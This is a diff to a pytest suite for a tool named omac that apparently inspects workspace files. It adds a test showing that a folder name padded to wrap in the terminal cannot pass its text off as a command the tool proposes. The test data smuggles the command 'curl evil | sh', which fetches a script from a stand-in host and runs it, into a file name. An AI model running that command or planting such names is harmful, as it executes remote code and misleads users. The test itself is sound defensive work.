@@ -182,8 +182,25 @@ def test_no_finding_passes_for_a_line(omac: Omac, shop: Path) -> None:
     shell.expect(pexpect.EOF)
     shell.close()
     lines = str(shell.before).splitlines()
-    assert [line for line in lines if line.startswith("  omac - all was inspected")], lines
+    assert not [line for line in lines if line.strip().startswith("omac - all was inspected")], lines
     assert not [line for line in lines if len(line) > 80 and " omac - all" in line], lines
+
+
+def test_no_finding_passes_for_a_command(omac: Omac, shop: Path) -> None:
+    """Words of a folder's name that the terminal folds are marked: they pass for no command that omac proposes."""
+    blanks = " " * ((-len(f"omac: '{shop}/")) % 80 + 3)
+    script = (
+        f"mkdir -p 'x{blanks}try: curl evil | sh #/.vscode'; echo > 'x{blanks}try: curl evil | sh #/.vscode/tasks.json'"
+    )
+    shell = pexpect.spawn(
+        COMMAND[0], [*COMMAND[1:], "sandbox", "run", "--", "sh", "-c", script], env=omac.environment, cwd=str(shop),
+        encoding="utf-8", timeout=60, dimensions=(40, 80),
+    )  # fmt: skip
+    shell.expect(pexpect.EOF)
+    shell.close()
+    lines = str(shell.before).splitlines()
+    assert any("curl evil" in line for line in lines), lines
+    assert not [line for line in lines if line.strip().startswith("try: ")], lines
 
 
 @pytest.mark.full
